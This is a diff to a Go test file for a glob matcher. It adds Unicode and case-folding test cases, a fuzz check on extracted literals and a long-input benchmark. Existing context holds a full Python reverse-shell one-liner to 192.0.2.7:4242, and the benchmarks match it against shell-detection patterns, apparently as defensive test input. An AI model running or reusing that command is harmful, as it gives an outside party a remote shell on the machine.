@@ -39,6 +39,11 @@ func TestMatch(t *testing.T) {
 		{pattern: "*socket*", cased: true, match: []string{"a socket"}, mismatch: []string{"Socket", "ſocket"}},
 		{pattern: "*ÄRGER*", match: []string{"großer ärger"}, mismatch: []string{"arger", "\xc4rger"}},
 		{pattern: "*a*b*c", match: []string{"abc", "AxBxC", "aabbcc"}, mismatch: []string{"ab", "acb", "abcd"}},
+		{pattern: "a*b", match: []string{"ab", "A\xffB"}, mismatch: []string{"a", "b", "ba", "abc"}},
+		{pattern: "aba*aba", match: []string{"abaaba"}, mismatch: []string{"aba", "ababa"}},
+		{pattern: "*ask*risk*", match: []string{"a\u017fk, riſ\u212a"}, mismatch: []string{"risk ask"}},
+		{pattern: "*é*è*", match: []string{"Éè"}, mismatch: []string{"èé", "\xc3\xa8"}},
+		{pattern: "*zb*", match: []string{strings.Repeat("Zz", 50) + "zB"}, mismatch: []string{strings.Repeat("Zz", 50)}},
 		{pattern: "a?c*", match: []string{"abc", "aéc", "a\xffcd"}, mismatch: []string{"ac", "abbc"}},
 		{pattern: "*\xa9*", cased: true, match: []string{"\xa9", "x\xa9"}, mismatch: []string{"é", ""}},
 		{pattern: "*\xc3", match: []string{"x\xc3"}, mismatch: []string{"x\xe3", "xã"}},
@@ -69,6 +74,7 @@ func TestQuadratic(t *testing.T) {
 }
 
 func FuzzMatch(f *testing.F) {
+	f.Add("/tmp/*.b64", "/tmp/x.b64", true)
 	f.Add("*so?ket~", "my ſocket-", true)
 	f.Add("\xc3*", "\xc3\xa9", false)
 	f.Add("*\u212a", "k", true)
@@ -77,8 +83,17 @@ func FuzzMatch(f *testing.F) {
 			return
 		}
 		parts := glob(pattern)
-		if got, want := Compile(parts, fold).Match(s), naive(parts, s, fold); got != want {
+		p := Compile(parts, fold)
+		got, want := p.Match(s), naive(parts, s, fold)
+		if got != want {
 			t.Errorf("Compile(%q, %v).Match(%q) = %v, want %v", pattern, fold, s, got, want)
+		}
+		needles := p.Literals()
+		if !got || Folds(s) || len(needles) == 0 {
+			return
+		}
+		if found := CompileLiterals(needles).Find(nil, s); len(found) != len(needles) {
+			t.Errorf("%q matches %q, which has not all of %v", pattern, s, needles)
 		}
 	})
 }
@@ -132,6 +147,21 @@ func split(s string) (units []string) {
 
 var commandLine = "python3 -c import os,pty,socket;s=socket.socket();s.connect((\"192.0.2.7\",4242));" +
 	"[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/sh\")"
+
+// BenchmarkMatchLong asks about what shells are given to run: kilobytes.
+func BenchmarkMatchLong(b *testing.B) {
+	script := strings.Repeat("for f in *.go; do gofmt -l \"$f\" | sed 's/^/unformatted → /'; done\n", 60)
+	for _, pattern := range []string{"*--encode*", "*import*pty*run*", "*for*xyz*", "* -c * python*"} {
+		b.Run(pattern, func(b *testing.B) {
+			p := Compile(glob(pattern), true)
+			b.SetBytes(int64(len(script)))
+			b.ReportAllocs()
+			for b.Loop() {
+				p.Match(script)
+			}
+		})
+	}
+}
 
 func BenchmarkMatch(b *testing.B) {
 	for _, pattern := range []string{"/usr/bin/python", "/usr/*", "*/sh\")", "*--encode*", "*import*pty*run*", "*zürich*"} {
